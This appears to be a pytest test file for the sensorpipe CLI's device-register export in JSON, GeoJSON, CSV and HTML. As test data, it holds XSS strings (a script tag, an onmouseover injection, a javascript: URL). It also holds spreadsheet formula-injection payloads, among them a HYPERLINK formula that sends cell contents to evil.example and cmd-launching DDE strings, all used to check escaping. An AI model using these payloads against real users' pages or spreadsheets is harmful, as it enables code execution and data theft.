"""`sensorpipe devices export`: the public register as JSON, GeoJSON, CSV and an HTML page in
English or Dutch; `devices add` with the register fields and `devices network`."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from sensorpipe.cli.main import main
from sensorpipe.protocol.register import personal_data_none, register_geojson
from sensorpipe.protocol.registry import NetworkInfo, Registry, load_registry
from sensorpipe.query.export import export
from sensorpipe.query.health import SensorState
from sensorpipe.query.register import DeviceStats, RegisterStats
from sensorpipe.query.register_page import FIXED_NL, QUANTITY_NAMES, to_html

HOSTILE = '<script>alert("owner")</script>'
HOSTILE_PURPOSE = '" onmouseover="alert(1)'


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stack directory with a registry of an air device and a counting camera, no stack."""
    monkeypatch.setenv("SENSORPIPE_DIR", str(tmp_path / "no-stack"))
    d = tmp_path / "st"
    air = run(
        "devices", "add", "air-1", "--dir", str(d), "--site", "lombok", "--owner", "J. Jansen",
        "--purpose", "PM on a school route", "--sensor", "sds011", "--sensor", "bme280",
        "--lat", "52.0907123", "--lon", "5.1055987",
    )  # fmt: skip
    assert air.exit_code == 0, air.output
    camera = run(
        "devices", "add", "cam-1", "--dir", str(d), "--site", "oudwijk", "--owner", HOSTILE,
        "--purpose", HOSTILE_PURPOSE, "--sensor", "camera", "--lat", "52.08761", "--lon",
        "5.13249", "--precision", "2", "--count-class", "cyclist", "--count-class", "car",
        "--contact", "verkeer@example.org", "--legal-basis", "public task (GDPR art. 6(1)(e))",
        "--retention", "counts: 5 years", "--licence", "CC0-1.0",
    )  # fmt: skip
    assert camera.exit_code == 0, camera.output
    hidden = run("devices", "add", "home-1", "--dir", str(d), "--sensor", "sds011")
    assert hidden.exit_code == 0, hidden.output
    return d


def test_devices_add_stores_the_register_fields_and_list_shows_them(directory: Path) -> None:
    entry = load_registry(directory / "registry.toml").devices["cam-1"]
    assert entry.contact == "verkeer@example.org"
    assert entry.legal_basis == "public task (GDPR art. 6(1)(e))"
    assert entry.retention == "counts: 5 years"
    assert entry.licence == "CC0-1.0"
    assert entry.count_classes == ["cyclist", "car"]
    assert entry.personal_data is None  # decided from its sensors
    result = run(
        "devices", "add", "cam-2", "--dir", str(directory), "--sensor", "camera",
        "--no-personal-data",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    listed = run("devices", "list", "--dir", str(directory), "--json")
    assert listed.exit_code == 0, listed.output
    by_id = {d["device_id"]: d for d in json.loads(listed.stdout)}
    assert by_id["cam-1"]["count_classes"] == ["cyclist", "car"]
    assert by_id["cam-1"]["licence"] == "CC0-1.0"
    assert by_id["cam-1"]["personal_data"] is None
    assert by_id["cam-2"]["personal_data"] is False
    assert by_id["air-1"]["contact"] == ""  # the network's
    assert by_id["air-1"]["location"] == {"lat": 52.091, "lon": 5.106}


def test_devices_network_sets_the_defaults_that_entries_fall_back_to(directory: Path) -> None:
    result = run(
        "devices", "network", "--dir", str(directory), "--name", "Meetnet Utrecht",
        "--operator", "Gemeente Utrecht", "--contact", "meetnet@utrecht.example",
        "--retention", "10 years", "--privacy-url", "https://utrecht.example/privacy",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    network = load_registry(directory / "registry.toml").network
    assert network.name == "Meetnet Utrecht"
    assert network.operator == "Gemeente Utrecht"
    assert network.licence == "CC-BY-4.0"  # not given: unchanged
    shown = run("devices", "network", "--dir", str(directory), "--json")
    assert json.loads(shown.stdout)["privacy_url"] == "https://utrecht.example/privacy"
    records = {r["device_id"]: r for r in json.loads(run_export(directory).stdout)}
    assert records["air-1"]["contact"] == "meetnet@utrecht.example"
    assert records["air-1"]["retention"] == "10 years"
    assert records["cam-1"]["contact"] == "verkeer@example.org"  # its own
    assert records["cam-1"]["retention"] == "counts: 5 years"


def run_export(directory: Path, *args: str) -> Result:
    result = run("devices", "export", "--dir", str(directory), *args)
    assert result.exit_code == 0, result.output
    return result


def test_json_keeps_the_keys_it_always_had_and_says_why_there_are_no_statistics(
    directory: Path,
) -> None:
    result = run_export(directory)
    assert "note: no stack in" in result.stderr and "without first/last seen" in result.stderr
    records = json.loads(result.stdout)
    old = load_registry(directory / "registry.toml").public_view()
    assert [r["device_id"] for r in records] == [o["device_id"] for o in old]
    for record, before in zip(records, old, strict=True):
        for key in ("device_id", "site", "owner", "purpose"):
            assert record[key] == before[key]
        assert sorted(record["sensors"]) == sorted(before["sensors"])  # type: ignore[call-overload]
        if before["location"] is None:
            assert record["location"] is None
        else:
            assert {k: record["location"][k] for k in ("lat", "lon")} == before["location"]
        assert "first_seen" not in record
    camera = next(r for r in records if r["device_id"] == "cam-1")
    assert camera["counts"] is True and camera["personal_data"] is True
    assert camera["count_classes"] == ["cyclist", "car"]
    assert camera["location"] == {"lat": 52.09, "lon": 5.13, "precision_decimals": 2}


def test_csv_has_a_row_per_device_and_lists_joined_with_semicolons(directory: Path) -> None:
    text = run_export(directory, "--format", "csv").stdout
    rows = {r["device_id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"air-1", "cam-1", "home-1"}
    assert rows["air-1"]["sensors"].split(";") == ["bme280", "sds011"]
    assert rows["air-1"]["quantities"].split(";") == [
        "pm2_5", "pm10", "temperature", "relative_humidity", "pressure",
    ]  # fmt: skip
    assert (rows["air-1"]["lat"], rows["air-1"]["lon"]) == ("52.091", "5.106")
    assert rows["cam-1"]["owner"] == HOSTILE  # data stays data: no escaping in CSV
    assert rows["cam-1"]["directions"] == "left_to_right;right_to_left"
    assert rows["cam-1"]["personal_data"] == "true"
    assert rows["home-1"]["lat"] == "" and rows["home-1"]["location_precision_decimals"] == ""
    assert "uptime_24h" not in rows["air-1"]


def test_geojson_is_a_feature_collection_of_rounded_lon_lat_points(directory: Path) -> None:
    collection = json.loads(run_export(directory, "--format", "geojson").stdout)
    assert collection["type"] == "FeatureCollection"
    assert collection["network"]["licence"] == "CC-BY-4.0"
    features = {f["id"]: f for f in collection["features"]}
    assert features["air-1"]["geometry"] == {"type": "Point", "coordinates": [5.106, 52.091]}
    assert features["cam-1"]["geometry"]["coordinates"] == [5.13, 52.09]
    assert features["cam-1"]["properties"]["location_precision_decimals"] == 2
    assert features["cam-1"]["properties"]["owner"] == HOSTILE
    assert features["home-1"]["geometry"] is None
    assert "location" not in features["air-1"]["properties"]


def test_register_geojson_prefers_an_exact_location() -> None:
    entry = {
        "device_id": "a",
        "location": {"lat": 52.1, "lon": 5.1, "precision_decimals": 1},
        "exact_location": {"lat": 52.0907, "lon": 5.1055},
    }
    (feature,) = register_geojson([entry], "n")["features"]
    assert feature["geometry"]["coordinates"] == [5.1055, 52.0907]
    assert feature["properties"] == {"device_id": "a", "location_precision_decimals": 1}


def _visible_text(page: str) -> str:
    body = page.split("</style>", 1)[1]
    return re.sub(r"<[^>]+>", " ", body)


def test_html_page_lists_every_device_and_escapes_what_hosts_typed(directory: Path) -> None:
    out = directory / "register.html"
    result = run_export(directory, "--format", "html", "--out", str(out))
    assert result.stdout == ""
    assert f"wrote 3 devices (html) to {out}" in result.stderr
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page
    for device in ("air-1", "cam-1", "home-1"):
        assert f'<article id="device-{device}">' in page
    # The hostile owner and purpose are text, not markup.
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&quot;owner&quot;)&lt;/script&gt;" in page
    assert 'onmouseover="' not in page
    assert "&quot; onmouseover=&quot;alert(1)" in page
    # Self-contained: no scripts, style sheets, images, fonts or frames from anywhere.
    for forbidden in ("<link", "<img", "<iframe", "src=", "url(", "@import", "<script"):
        assert forbidden not in page.lower()
    assert "default-src 'none'" in page
    text = _visible_text(page)
    assert "Processes personal data" in text and "Legal basis" in text
    assert "images are processed on the device only" in text
    assert "public task (GDPR art. 6(1)(e))" in page
    assert "52.091, 5.106" in text and "52.09, 5.13" in text
    assert "particulate matter (PM2.5) in µg/m³" in text


def test_dutch_page_has_dutch_headings_and_fixed_texts(directory: Path) -> None:
    page = run_export(directory, "--format", "html", "--lang", "nl").stdout
    assert '<html lang="nl">' in page
    text = _visible_text(page)
    for dutch in (
        "Sensorregister",
        "Verwerkt persoonsgegevens",
        "Doel",
        "Eigenaar",
        "Bewaartermijn",
        "Licentie",
        "Grondslag",
        "fijnstof (PM2,5) in µg/m³",
        "temperatuur in °C",
        "relatieve luchtvochtigheid in %",
        "luchtdruk in hPa",
        "fietsers",
        "van links naar rechts",
        "de beelden worden alleen op het apparaat zelf verwerkt",
        "niet van toepassing: er worden geen persoonsgegevens verwerkt",
        "metingen worden bewaard zolang het netwerk bestaat",
        "Hoe de gegevens binnenkomen",
        "een sensorpipe-apparaat dat zijn metingen zelf ondertekent",
    ):
        assert dutch in text, dutch
    for english in (
        "Purpose",
        "Owner",
        "Retention",
        "Legal basis",
        "particulate matter",
        "images are processed",
        "not applicable",
        "left to right",
        "signs its readings",
    ):
        assert english not in text, english
    # What the operator typed stays as typed.
    assert "public task (GDPR art. 6(1)(e))" in text


def test_every_fixed_note_has_a_dutch_translation() -> None:
    from sensorpipe.protocol.messages import Location
    from sensorpipe.protocol.registry import DeviceEntry, GatewayAccount

    registry = Registry()
    for i, (sensors, personal) in enumerate(
        [(s, p) for s in (["camera"], ["sds011"], []) for p in (None, True, False)]
    ):
        registry.devices[f"d{i}"] = DeviceEntry(
            site="s",
            sensors=sensors,
            personal_data=personal,
            public_key="k",
            password_hash="h",
            location=Location(lat=52.0, lon=5.0),
        )
    registry.gateways["gw"] = GatewayAccount(public_key="k", password_hash="h")
    registry.devices["kit"] = DeviceEntry(
        site="s", source="airrohr", gateway="gw", chip_id="1", password_hash="h"
    )
    registry.devices["node"] = DeviceEntry(
        site="s", source="ttn", gateway="gw", ttn_application="a1@ttn", ttn_device="n1"
    )
    registry.devices["history"] = DeviceEntry(site="s", source="import")
    records = json.loads(export(registry, None, "json"))
    assert {r["source"] for r in records} == {"edge", "airrohr", "ttn", "import"}
    for r in records:
        for key in ("personal_data_note", "legal_basis", "retention", "source_note"):
            # A measuring device's note is written from its quantities, in either language.
            written = key == "personal_data_note" and r[key] == personal_data_none(r["quantities"])
            assert r[key] in FIXED_NL or written, (key, r[key])
    assert set(QUANTITY_NAMES["nl"]) == set(QUANTITY_NAMES["en"])
    from sensorpipe.protocol.quantities import QUANTITIES

    assert set(QUANTITY_NAMES["nl"]) == set(QUANTITIES)


def test_a_privacy_url_that_is_no_web_address_is_not_a_link() -> None:
    network = NetworkInfo(privacy_url="javascript:alert(1)", operator="<b>x</b>")
    page = to_html([], network, lang="en")
    assert 'href="javascript' not in page
    assert "javascript:alert(1)" in page and "&lt;b&gt;x&lt;/b&gt;" in page
    assert "No sensors are registered." in page
    web = to_html([], NetworkInfo(privacy_url="https://example.org/p?a=1&b=2"), lang="nl")
    assert 'href="https://example.org/p?a=1&amp;b=2"' in web and "Privacyverklaring" in web


def _stats() -> RegisterStats:
    now = int(datetime(2026, 11, 20, 12, tzinfo=UTC).timestamp() * 1000)
    return RegisterStats(
        {
            "air-1": DeviceStats(
                first_seen_ms=now - 86_400_000 * 3,
                last_seen_ms=now - 60_000,
                uptime={"24h": 0.995, "7d": 0.9},
                messages_7d=4000,
                missing_7d=12,
                median_latency_ms_7d=243.0,
                sensors={"sds011", "bme280"},
                health={
                    "sds011": SensorState("sds011", ok=True, uptime={"24h": 1.0}),
                    "bme280": SensorState(
                        "bme280",
                        ok=False,
                        last_error="no answer at 0x76",
                        since_ms=now - 3_600_000,
                        uptime={"24h": 0.5},
                    ),
                },
            )
        },
        now,
    )


def test_statistics_appear_in_every_format_when_there_are_some(directory: Path) -> None:
    registry = load_registry(directory / "registry.toml")
    stats = _stats()
    records = {r["device_id"]: r for r in json.loads(export(registry, stats, "json"))}
    assert records["air-1"]["first_seen"] == "2026-11-17T12:00:00Z"
    assert records["air-1"]["uptime_24h"] == 0.995
    assert records["air-1"]["missing_7d"] == 12
    assert records["home-1"]["first_seen"] is None  # never seen
    assert records["home-1"]["uptime_7d"] is None
    rows = {r["device_id"]: r for r in csv.DictReader(io.StringIO(export(registry, stats, "csv")))}
    assert rows["air-1"]["median_latency_ms_7d"] == "243.0"
    assert rows["home-1"]["last_seen"] == ""
    page = export(registry, stats, "html", lang="nl")
    text = _visible_text(page)
    assert "99,5 %" in text and "90,0 %" in text
    assert "12 van 4.012 verstuurd" in text
    assert "2026-11-20 11:59 UTC" in text
    assert "nog niet gezien" in text  # home-1
    assert "niet beschikbaar" not in text  # the note for a page without statistics
    collection = json.loads(export(registry, stats, "geojson"))
    props = {f["id"]: f["properties"] for f in collection["features"]}
    assert props["air-1"]["uptime_7d"] == 0.9


def test_a_sensor_that_is_not_ok_is_in_every_format(directory: Path) -> None:
    """The register shows each sensor's health where it shows the device (issue 25, point 5)."""
    registry = load_registry(directory / "registry.toml")
    stats = _stats()
    note = "bme280 not ok since 2026-11-20 11:00 UTC: no answer at 0x76"
    records = {r["device_id"]: r for r in json.loads(export(registry, stats, "json"))}
    assert records["air-1"]["sensors_not_ok"] == [note]
    health = {h["sensor"]: h for h in records["air-1"]["sensor_health"]}
    assert health["bme280"]["ok"] is False and health["bme280"]["uptime_24h"] == 0.5
    assert health["sds011"]["ok"] is True and health["sds011"]["last_error"] is None
    assert records["home-1"]["sensors_not_ok"] == [] and records["home-1"]["sensor_health"] == []
    rows = {r["device_id"]: r for r in csv.DictReader(io.StringIO(export(registry, stats, "csv")))}
    assert rows["air-1"]["sensors_not_ok"] == note and rows["home-1"]["sensors_not_ok"] == ""
    page = export(registry, stats, "html")
    assert note in _visible_text(page) and 'class="not-ok"' in page
    assert "Sensoren die niet werken" in export(registry, stats, "html", lang="nl")
    props = {
        f["id"]: f["properties"] for f in json.loads(export(registry, stats, "geojson"))["features"]
    }
    assert props["air-1"]["sensors_not_ok"] == [note]


def test_an_influxdb_that_does_not_answer_leaves_the_register_part(directory: Path) -> None:
    result = run_export(directory, "--influx-url", "http://127.0.0.1:9", "--format", "csv")
    assert "note: InfluxDB at http://127.0.0.1:9 does not answer" in result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 3 and "first_seen" not in rows[0]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Free-text register fields that start with = + - @, a tab or a carriage return get a
    leading apostrophe in every CSV sensorpipe writes; numbers (negative ones too) stay."""
    from sensorpipe.query.output import render

    monkeypatch.setenv("SENSORPIPE_DIR", str(tmp_path / "no-stack"))
    d = tmp_path / "st"
    attacks = {
        "owner": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "purpose": "+cmd|' /C calc'!A0",
        "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
        "legal-basis": "-2+3+cmd|' /C calc'!A0",
        "retention": "\t=1+1",
        "licence": "\r=1+1",
    }
    options = [x for k, v in attacks.items() for x in (f"--{k}", v)]
    added = run("devices", "add", "evil-1", "--dir", str(d), "--sensor", "sds011", *options)
    assert added.exit_code == 0, added.output
    text = run_export(d, "--format", "csv").stdout
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    for key, value in attacks.items():
        assert row[key.replace("-", "_")] == "'" + value, key
    # A query's CSV: text cells guarded, numbers as they are.
    rendered = render([{"site": "=1+1", "temperature": -3.5}], ["site", "temperature"], "csv")
    assert rendered == "site,temperature_degc\n'=1+1,-3.5\n"
